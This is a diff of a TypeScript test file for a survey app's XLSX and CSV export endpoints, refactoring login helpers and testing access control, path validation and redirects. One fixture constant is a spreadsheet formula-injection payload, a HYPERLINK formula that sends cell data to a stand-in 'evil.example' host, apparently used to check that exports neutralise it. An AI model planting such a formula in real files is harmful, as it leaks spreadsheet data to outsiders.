@@ -5,17 +5,18 @@ import JSZip from 'jszip';
 import { parse } from 'csv-parse/sync';
 import { useTestDatabase } from '../../../test/db.js';
 import { useApi, type ApiClient } from '../../../test/api.js';
-import { fixtureBundle, fixtureResponses, response } from '../../../test/factories.js';
+import { fixtures } from '../../../test/factories.js';
+import { useViewers } from '../../../test/viewers.js';
 import { storeEdition } from '../edition/edition-bundle.js';
-import { addUser } from '../user/user.service.js';
 import { attachment } from './export.routes.js';
 
 const db = useTestDatabase();
 const api = useApi(db);
+const { asStaff, asManager, asObserver, anonymous } = useViewers(db, api);
 
 /**
  * 2024 (published) is factories.ts's fixture with two responses more for alfa, whose comments
- * start like formulas. The factory numbers responses from 1 in a fresh test file, so:
+ * start like formulas. The file's `fixtures()` numbers responses from 1, so:
  * - alfa-1 (1st): PHONE, FEMALE born 1971 (53 in 2024: 50–59), 2024-09-03 10:15 in Oslo, 17/20 = 85 %;
  * - alfa-2 (2nd): EMAIL, MALE 1972 (52), 09-04, wait 7200 s; REC_WELCOME not applicable: 7/12 = 58.33… %;
  * - alfa-3 (3rd): PHONE unanswered after 2 attempts, FEMALE 1973 (51), 09-05, wait 300 s: 0 of 20 = 0 %;
@@ -26,6 +27,7 @@ const api = useApi(db);
  * alfa is konkurrent (report bought, chose beta), gamma did not buy its report.
  */
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")';
+const { fixtureBundle, fixtureResponses, response } = fixtures(); // one numbering for the file, as described above
 function responses2024() {
   return [
     ...fixtureResponses(),
@@ -44,17 +46,7 @@ beforeAll(async () => {
     await storeEdition(em, edition2024, { status: 'PUBLISHED' });
     await storeEdition(em, fixtureBundle({ year: 2025 }), { status: 'REVIEW' });
   });
-  await addUser(db.orm.em.fork(), { email: 'staff@test.no', password: 'secret-staff', role: 'STAFF' });
-  await addUser(db.orm.em.fork(), { email: 'alfa@test.no', password: 'secret-alfa', role: 'MANAGER', companySlug: 'alfa' });
-  await addUser(db.orm.em.fork(), { email: 'gamma@test.no', password: 'secret-gamma', role: 'MANAGER', companySlug: 'gamma' });
-  await addUser(db.orm.em.fork(), { email: 'observer@test.no', password: 'secret-observer', role: 'OBSERVER', observerId: 'OBS-1' });
 });
-
-async function as(email: string | null): Promise<ApiClient> {
-  const client = api.client();
-  if (email) await client.login(email, `secret-${email.split('@')[0]}`);
-  return client;
-}
 
 async function download(client: ApiClient, path: string) {
   const res = await fetch(`${api.url()}${path}`, { headers: client.cookie ? { cookie: client.cookie } : {} });
@@ -120,9 +112,9 @@ async function xlsxText(body: Buffer): Promise<string> {
 }
 
 describe('the responses as XLSX', () => {
-  for (const who of ['staff@test.no', 'alfa@test.no']) {
-    it(`gives ${who.split('@')[0]} alfa's file: one row per approved inquiry, labels, comments, scores, observer band`, async () => {
-      const { res, body } = await download(await as(who), '/eksport/2024/alfa/besvarelser.xlsx');
+  for (const [who, viewer] of [['staff', asStaff], ['alfa', () => asManager('alfa')]] as const) {
+    it(`gives ${who} alfa's file: one row per approved inquiry, labels, comments, scores, observer band`, async () => {
+      const { res, body } = await download(await viewer(), '/eksport/2024/alfa/besvarelser.xlsx');
       expect(res.status).toBe(200);
       expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
       expect(res.headers.get('content-disposition')).toBe(`attachment; filename="besvarelser-alfa-2024.xlsx"; filename*=UTF-8''besvarelser-alfa-2024.xlsx`);
@@ -138,7 +130,7 @@ describe('the responses as XLSX', () => {
   }
 
   it('gives the same scores as the API’s responses { score }, as numbers showing 2 decimals and %', async () => {
-    const staff = await as('staff@test.no');
+    const staff = await asStaff();
     const api = await staff.query(`{ participation(year: 2024, companySlug: "alfa") { report { responses(first: 100) { edges { node { id score } } } } } }`);
     const fromApi = api.data!.participation.report.responses.edges.map((e: { node: { id: string; score: number } }) => [e.node.id, e.node.score]);
     const sheet = (await readXlsx((await download(staff, '/eksport/2024/alfa/besvarelser.xlsx')).body)).getWorksheet('Besvarelser')!;
@@ -150,7 +142,7 @@ describe('the responses as XLSX', () => {
   });
 
   it('keeps the header row in place, filters on, sensible widths and wrapped comments', async () => {
-    const sheet = (await readXlsx((await download(await as('alfa@test.no'), '/eksport/2024/alfa/besvarelser.xlsx')).body)).getWorksheet('Besvarelser')!;
+    const sheet = (await readXlsx((await download(await asManager('alfa'), '/eksport/2024/alfa/besvarelser.xlsx')).body)).getWorksheet('Besvarelser')!;
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
     expect(sheet.autoFilter).toBe('A1:W6');
     expect(sheet.getRow(1).font).toMatchObject({ bold: true });
@@ -166,7 +158,7 @@ describe('the responses as XLSX', () => {
   });
 
   it('has the questionnaire on a second sheet: code, text, area, channels, weight, options with points', async () => {
-    const workbook = await readXlsx((await download(await as('staff@test.no'), '/eksport/2024/alfa/besvarelser.xlsx')).body);
+    const workbook = await readXlsx((await download(await asStaff(), '/eksport/2024/alfa/besvarelser.xlsx')).body);
     const sheet = workbook.getWorksheet('Spørreskjema')!;
     const rows = sheetRows(sheet);
     expect(rows[0]).toEqual(['Kode', 'Spørsmål', 'Område', 'Kanaler', 'Maks poeng', 'Svaralternativer (poeng)']);
@@ -182,13 +174,13 @@ describe('the responses as XLSX', () => {
   });
 
   it('never carries an observer’s id, anywhere in the file', async () => {
-    const text = await xlsxText((await download(await as('staff@test.no'), '/eksport/2024/alfa/besvarelser.xlsx')).body);
+    const text = await xlsxText((await download(await asStaff(), '/eksport/2024/alfa/besvarelser.xlsx')).body);
     expect(text).toContain('Hyggelig mottak'); // the check reads the content
     expect(text).not.toMatch(/OBS-\d/);
   });
 
   it('speaks English with ?lang=en', async () => {
-    const workbook = await readXlsx((await download(await as('alfa@test.no'), '/eksport/2024/alfa/besvarelser.xlsx?lang=en')).body);
+    const workbook = await readXlsx((await download(await asManager('alfa'), '/eksport/2024/alfa/besvarelser.xlsx?lang=en')).body);
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Responses', 'Questionnaire']);
     const rows = sheetRows(workbook.getWorksheet('Responses')!);
     expect(rows[0]!.slice(0, 7)).toEqual(['Inquiry', 'Channel', 'Contacted at', 'Attempts', 'Wait (seconds)', 'Status', 'Score (%)']);
@@ -198,9 +190,9 @@ describe('the responses as XLSX', () => {
 });
 
 describe('the responses as CSV', () => {
-  for (const who of ['staff@test.no', 'alfa@test.no']) {
-    it(`gives ${who.split('@')[0]} alfa's file for Norwegian Excel: BOM, semicolons, decimal comma, Oslo times`, async () => {
-      const { res, body } = await download(await as(who), '/eksport/2024/alfa/besvarelser.csv');
+  for (const [who, viewer] of [['staff', asStaff], ['alfa', () => asManager('alfa')]] as const) {
+    it(`gives ${who} alfa's file for Norwegian Excel: BOM, semicolons, decimal comma, Oslo times`, async () => {
+      const { res, body } = await download(await viewer(), '/eksport/2024/alfa/besvarelser.csv');
       expect(res.status).toBe(200);
       expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
       expect(res.headers.get('content-disposition')).toBe(`attachment; filename="besvarelser-alfa-2024.csv"; filename*=UTF-8''besvarelser-alfa-2024.csv`);
@@ -221,9 +213,9 @@ describe('the responses as CSV', () => {
 });
 
 describe('who may download', () => {
-  const refused = async (who: string | null, path: string, status: number, code: string) => {
-    const { res, body } = await download(await as(who), path);
-    expect(res.status, `${who ?? 'anonymous'} ${path}`).toBe(status);
+  const refused = async (client: ApiClient, path: string, status: number, code: string) => {
+    const { res, body } = await download(client, path);
+    expect(res.status, `${client.who} ${path}`).toBe(status);
     expect(res.headers.get('content-disposition')).toBeNull();
     expect(res.headers.get('content-type')).toMatch(/^application\/json/);
     const json = JSON.parse(body.toString('utf8')) as { error: { code: string; message: string } };
@@ -232,34 +224,34 @@ describe('who may download', () => {
   };
 
   it('refuses a konkurrent manager its chosen competitor’s responses (403), though it may read that report’s aggregates', async () => {
-    const alfa = await as('alfa@test.no');
+    const alfa = await asManager('alfa');
     const report = await alfa.query(`{ participation(year: 2024, companySlug: "beta") { report { total } } }`);
     expect(report.errors).toBeUndefined();
     expect(report.data!.participation.report.total).toBe(10);
-    for (const format of ['xlsx', 'csv']) await refused('alfa@test.no', `/eksport/2024/beta/besvarelser.${format}`, 403, 'FORBIDDEN');
+    for (const format of ['xlsx', 'csv']) await refused(await asManager('alfa'), `/eksport/2024/beta/besvarelser.${format}`, 403, 'FORBIDDEN');
   });
 
   it('refuses a manager without the report, another company’s manager and an observer (403)', async () => {
     for (const format of ['xlsx', 'csv']) {
-      await refused('gamma@test.no', `/eksport/2024/gamma/besvarelser.${format}`, 403, 'FORBIDDEN');
-      await refused('gamma@test.no', `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
-      await refused('observer@test.no', `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
+      await refused(await asManager('gamma'), `/eksport/2024/gamma/besvarelser.${format}`, 403, 'FORBIDDEN');
+      await refused(await asManager('gamma'), `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
+      await refused(await asObserver('OBS-1'), `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
     }
   });
 
   it('asks for a session without one (401)', async () => {
-    for (const format of ['xlsx', 'csv']) await refused(null, `/eksport/2024/alfa/besvarelser.${format}`, 401, 'UNAUTHENTICATED');
+    for (const format of ['xlsx', 'csv']) await refused(await anonymous(), `/eksport/2024/alfa/besvarelser.${format}`, 401, 'UNAUTHENTICATED');
   });
 
   it('knows no unknown year or company, nor an unpublished edition but for staff (404)', async () => {
     for (const format of ['xlsx', 'csv']) {
-      await refused('staff@test.no', `/eksport/2024/ukjent/besvarelser.${format}`, 404, 'NOT_FOUND');
-      await refused('staff@test.no', `/eksport/2019/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
-      await refused('staff@test.no', `/eksport/tjue/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
-      await refused('alfa@test.no', `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
-      await refused(null, `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
+      await refused(await asStaff(), `/eksport/2024/ukjent/besvarelser.${format}`, 404, 'NOT_FOUND');
+      await refused(await asStaff(), `/eksport/2019/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
+      await refused(await asStaff(), `/eksport/tjue/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
+      await refused(await asManager('alfa'), `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
+      await refused(await anonymous(), `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
     }
-    const { res, body } = await download(await as('staff@test.no'), '/eksport/2025/alfa/besvarelser.csv');
+    const { res, body } = await download(await asStaff(), '/eksport/2025/alfa/besvarelser.csv');
     expect(res.status).toBe(200);
     expect(body.toString('utf8').split('\r\n').filter(Boolean)).toHaveLength(4); // header + alfa's three 2025 responses
   });
@@ -286,8 +278,8 @@ describe('the export paths', () => {
   }
 
   it('answers a malformed year or company 404 before it looks at the session or the database', async () => {
-    for (const who of [null, 'staff@test.no']) {
-      const client = await as(who);
+    for (const viewer of [anonymous, asStaff]) {
+      const client = await viewer();
       for (const file of FILES) {
         await jsonError(client, `/eksport/2024/alfa%00/${file}`, 404, 'NOT_FOUND'); // was a 500: PostgreSQL refuses NUL
         await jsonError(client, `/eksport/20x4/alfa/${file}`, 404, 'NOT_FOUND');
@@ -298,27 +290,27 @@ describe('the export paths', () => {
         await jsonError(client, `/eksport/2024/-alfa/${file}`, 404, 'NOT_FOUND');
       }
     }
-    const { message } = await jsonError(await as(null), '/eksport/20x4/alfa/rapport.pdf', 404, 'NOT_FOUND');
+    const { message } = await jsonError(await anonymous(), '/eksport/20x4/alfa/rapport.pdf', 404, 'NOT_FOUND');
     expect(message).toBe('No download at "/eksport/20x4/alfa/rapport.pdf": the year is 4 digits and the company a slug such as "acme-bank".');
   });
 
   it('answers a path that is not percent-encoded correctly 404 JSON, not Express’s HTML page', async () => {
     for (const path of ['/eksport/2024/%ff%fe/rapport.pdf', '/eksport/%ff/alfa/besvarelser.csv', '/eksport/2024/alfa/%e0%a4%a.xlsx', '/eksport/2024/al%fa/besvarelser.xlsx']) {
-      const { message } = await jsonError(await as('staff@test.no'), path, 404, 'NOT_FOUND');
+      const { message } = await jsonError(await asStaff(), path, 404, 'NOT_FOUND');
       expect(message).toBe('No download at this path: it is not valid percent-encoded UTF-8.');
-      await jsonError(await as('staff@test.no'), path, 404, 'NOT_FOUND', { method: 'POST' });
+      await jsonError(await asStaff(), path, 404, 'NOT_FOUND', { method: 'POST' });
     }
   });
 
   it('knows no other path under /eksport (404 JSON)', async () => {
     for (const path of ['/eksport', '/eksport/', '/eksport/2024', '/eksport/2024/alfa', '/eksport/2024/alfa/rapport.docx', '/eksport/2024/alfa/rapport.pdf/x']) {
-      await jsonError(await as('staff@test.no'), path, 404, 'NOT_FOUND');
-      await jsonError(await as(null), path, 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
+      await jsonError(await asStaff(), path, 404, 'NOT_FOUND');
+      await jsonError(await anonymous(), path, 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
     }
   });
 
   it('answers any method but GET and HEAD 405 JSON with Allow, and sends no file', async () => {
-    const staff = await as('staff@test.no');
+    const staff = await asStaff();
     for (const file of FILES) {
       for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
         const { res, message } = await jsonError(staff, `/eksport/2024/alfa/${file}`, 405, 'METHOD_NOT_ALLOWED', { method });
@@ -339,7 +331,7 @@ describe('the export paths', () => {
       ['/eksport/2024/beta/besvarelser.csv', '%2Feksport%2F2024%2Fbeta%2Fbesvarelser.csv'],
     ] as const) {
       for (const accept of ['text/html', browserAccept]) {
-        const { res, text } = await send(await as(null), path, { headers: { accept } });
+        const { res, text } = await send(await anonymous(), path, { headers: { accept } });
         expect(res.status, path).toBe(303);
         expect(res.headers.get('location'), path).toBe(`/logg-inn?til=${back}`);
         expect(res.headers.get('cache-control')).toBe('private, no-store');
@@ -356,18 +348,18 @@ describe('the export paths', () => {
     expect(absolute.statusCode).toBe(303);
     expect(absolute.headers.location).toBe('/logg-inn?til=%2Feksport%2F2024%2Falfa%2Frapport.pdf%3Flang%3Den');
     // A session cookie that no longer opens a session is no session either.
-    const expired = await send(await as(null), '/eksport/2024/alfa/rapport.pdf', { headers: { accept: 'text/html', cookie: 'ksp_session=gone' } });
+    const expired = await send(await anonymous(), '/eksport/2024/alfa/rapport.pdf', { headers: { accept: 'text/html', cookie: 'ksp_session=gone' } });
     expect(expired.res.status).toBe(303);
   });
 
   it('keeps 401 JSON for a client that is not a browser, and 403 or 404 for a browser too', async () => {
     for (const accept of [undefined, '*/*', 'application/json', 'application/pdf']) {
       for (const file of FILES) {
-        await jsonError(await as(null), `/eksport/2024/alfa/${file}`, 401, 'UNAUTHENTICATED', { headers: accept ? { accept } : {} });
+        await jsonError(await anonymous(), `/eksport/2024/alfa/${file}`, 401, 'UNAUTHENTICATED', { headers: accept ? { accept } : {} });
       }
     }
-    await jsonError(await as('gamma@test.no'), '/eksport/2024/alfa/besvarelser.csv', 403, 'FORBIDDEN', { headers: { accept: 'text/html' } });
-    await jsonError(await as(null), '/eksport/2024/ukjent/rapport.pdf', 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
+    await jsonError(await asManager('gamma'), '/eksport/2024/alfa/besvarelser.csv', 403, 'FORBIDDEN', { headers: { accept: 'text/html' } });
+    await jsonError(await anonymous(), '/eksport/2024/ukjent/rapport.pdf', 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
   });
 });
 
